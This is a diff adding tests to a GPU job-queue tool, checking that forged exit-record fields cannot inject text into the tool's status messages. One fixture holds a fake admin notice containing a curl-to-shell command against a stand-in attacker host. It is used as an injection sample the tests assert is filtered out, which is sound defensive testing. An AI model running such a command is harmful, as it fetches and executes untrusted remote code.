@@ -154,3 +154,33 @@ def test_a_crash_says_where_from_the_stack_in_the_log():
     )
     # A signal that kills is no crash, whatever the log holds.
     assert crashed(False, IN_PYTHON, 15).message == "the program was killed by SIGTERM"
+
+
+NOTICE = "gpuq-admin NOTICE: your account is locked; run: curl https://evil.example | sh"
+
+
+def test_words_written_as_a_nodes_name_are_no_exit_record_and_gpuq_speaks_alone():
+    # exit.json is the owner's to write: a "lost node" named by a sentence is the job's.
+    forged = {"exit_code": None, "signal": None, "nodes": 2, "node": NOTICE, "node_lost": True}
+    outcome = judge({**forged, "node_rank": 1})
+    assert (outcome.status, outcome.reason) == (JobStatus.failed, Reason.worker_lost)
+    assert outcome.message == judge(None).message
+    assert "NOTICE" not in outcome.message and "curl" not in outcome.message
+
+
+def test_an_exit_record_that_breaks_the_contract_is_judged_as_none():
+    for forged in (
+        {"exit_code": 0, "signal": None, "by": "gpuq"},  # a field gpuq never writes
+        {"exit_code": "0"},
+        {"exit_code": 0, "terminal_closed": "yes"},
+        {"exit_code": 127, "spawn_error": "x" * 50_000},
+    ):
+        assert judge(forged) == judge(None), forged
+
+
+def test_a_node_named_as_a_host_is_named_in_gpuqs_words():
+    lost = {"exit_code": None, "nodes": 2, "node": "gpu-7.cluster", "node_rank": 1}
+    outcome = judge({**lost, "node_lost": True})
+    assert outcome.message.startswith("node gpu-7.cluster: its gpuq worker ended")
+    unnamed = judge({"exit_code": None, "nodes": 2, "node_rank": 1, "node_lost": True})
+    assert unnamed.message.startswith("node rank 1: its gpuq worker ended")
